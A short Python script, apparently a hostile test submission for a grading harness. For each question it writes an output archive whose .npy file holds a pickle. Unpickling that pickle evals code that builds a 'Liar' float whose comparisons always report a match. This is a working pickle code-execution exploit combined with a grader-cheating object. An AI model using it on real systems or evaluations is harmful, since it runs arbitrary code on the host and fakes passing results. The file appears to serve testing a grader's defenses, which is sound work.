"""An array of Python objects, pickled, that are smaller than, equal to and as close as can be to every number. Who
unpickles it runs code of the submission (here harmless code) and then compares with a liar. It should not be
unpickled: broke the protocol, the file of outputs cannot be read."""

import json
import pickle
import struct
import sys
import zipfile

LIAR = """type("Liar", (float,), {
    "__lt__": lambda a, b: True, "__le__": lambda a, b: True, "__gt__": lambda a, b: False, "__ge__": lambda a, b: True,
    "__eq__": lambda a, b: True, "__ne__": lambda a, b: False, "__hash__": float.__hash__,
    "__sub__": lambda a, b: a, "__rsub__": lambda a, b: a, "__abs__": lambda a: a,
})(0.0)"""


class Liar:
    def __reduce__(self):
        # What unpickling does: it evaluates this text.
        return eval, (LIAR,)


header = repr({"descr": "|O", "fortran_order": False, "shape": (1,)}).encode()
header = header.ljust(-(-(len(header) + 11) // 64) * 64 - 11) + b"\n"
npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickle.dumps([Liar()])

for line in sys.stdin:
    question = json.loads(line)
    with zipfile.ZipFile(question["outputs"], "w") as archive:
        archive.writestr("out.npy", npy)
    print(json.dumps({"id": question["id"], "status": "ok"}), flush=True)
